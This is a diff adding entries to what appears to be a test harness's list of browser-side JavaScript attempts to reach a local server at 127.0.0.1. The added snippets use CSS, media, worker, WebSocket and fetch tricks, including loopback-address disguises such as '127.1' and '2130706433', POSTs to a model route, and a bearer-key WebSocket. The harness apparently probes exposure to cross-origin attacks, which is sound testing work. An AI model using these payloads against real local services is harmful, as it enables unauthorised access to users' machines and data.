@@ -208,6 +208,58 @@ ATTEMPTS = (
     Attempt("preload", "await put('link', {rel: 'preload', as: 'fetch', href: amp}, document.head); return null"),
     Attempt("module preload", "await put('link', {rel: 'modulepreload', href: amp}, document.head); return null"),
     Attempt("report of a policy", "await put('iframe', {src: '/reports?' + model}); return null", POST),
+    Attempt("connection ahead", "document.head.append(Object.assign(document.createElement('link'),"
+            "{rel: 'preconnect', href: P})); return null", ()),
+    Attempt("image of CSS", "document.body.style.backgroundImage = `url(${amp})`; return null"),
+    Attempt("image of CSS with CORS", "document.body.style.maskImage = `url(${amp})`; return null"),
+    Attempt("import of CSS", "await put('style', {textContent: `@import '${status}';`}); return null"),
+    Attempt("font of CSS", """
+        await put('style', {textContent: `@font-face { font-family: theirs; src: url(${amp}) }`});
+        return document.fonts.load('1em theirs').then(found => found.length || null, () => null)
+    """),
+    Attempt("image of several", "return image({srcset: amp + ' 1x'})"),
+    Attempt("image of SVG", "document.body.innerHTML = `<svg><image href='${amp}'></image></svg>`; return null"),
+    Attempt("button", "await put('input', {type: 'image', src: amp}); return null"),
+    Attempt("audio", "return (await put('audio', {src: amp})).duration || null"),
+    Attempt("poster", "Object.assign(document.body.appendChild(document.createElement('video')), {poster: amp}); "
+            "return null"),
+    Attempt("subtitles", """
+        const video = document.createElement('video'), track = document.createElement('track');
+        Object.assign(video, {crossOrigin: 'use-credentials', src: '/x.mp4'}); video.append(track);
+        document.body.append(video); track.src = amp; track.track.mode = 'hidden';
+        await new Promise(resolve => track.onload = track.onerror = resolve);
+        return track.track.cues && track.track.cues.length || null
+    """),
+    Attempt("worker whose script it is", "try { new Worker(status); return 'runs' } catch (error) { return null }", ()),
+    Attempt("shared worker", """
+        return new Promise(resolve => {
+            const url = URL.createObjectURL(new Blob([`onconnect = ({ports: [port]}) =>
+                fetch('${model}', {method: 'POST', body: '${body}'}).then(a => a.text()).then(
+                    text => port.postMessage(text), () => port.postMessage(null))`]));
+            new SharedWorker(url).port.onmessage = event => resolve(event.data);
+        })
+    """, POST),
+    Attempt("frame that refreshes itself", """
+        await put('iframe', {srcdoc: `<meta http-equiv=refresh content="0;url=${P}/auth/cli-login">`}); return null
+    """),
+    Attempt("frame of XML", "return inside(await put('iframe', {src: P + '/threads/x.xml'}))"),
+    Attempt("WebSocket to the status", "return socket(P + '/_ampmap/status')"),
+    Attempt("WebSocket with a key", """
+        return new Promise(resolve => {
+            const socket = new WebSocket(P.replace('http', 'ws') + '/api/thread-actors', ['bearer', 'sgamp_key']);
+            socket.onopen = () => resolve('open'); socket.onerror = () => resolve(null);
+        })
+    """),
+    Attempt("fetch by the name localhost", "return read(fetch(P.replace('127.0.0.1', 'localhost') + '/v1/models'))"),
+    Attempt("post by the name localhost", """
+        return read(fetch(model.replace('127.0.0.1', 'localhost'), {method: 'POST', mode: 'no-cors', body}))
+    """, POST),
+    Attempt("post by a name below localhost", """
+        return read(fetch(model.replace('127.0.0.1', 'x.localhost'), {method: 'POST', mode: 'no-cors', body}))
+    """, POST),
+    Attempt("image by a short address", "return image({src: amp.replace('127.0.0.1', '127.1')})"),
+    Attempt("image by a number", "return image({src: amp.replace('127.0.0.1', '2130706433')})"),
+    Attempt("fetch that names the loopback", "return read(fetch(status, {targetAddressSpace: 'loopback'}))"),
     Attempt("window with the status", "return opened(status)"),
     Attempt("window with the model list", "return opened(P + '/v1/models')"),
     Attempt("window with a model route", "return opened(model)"),
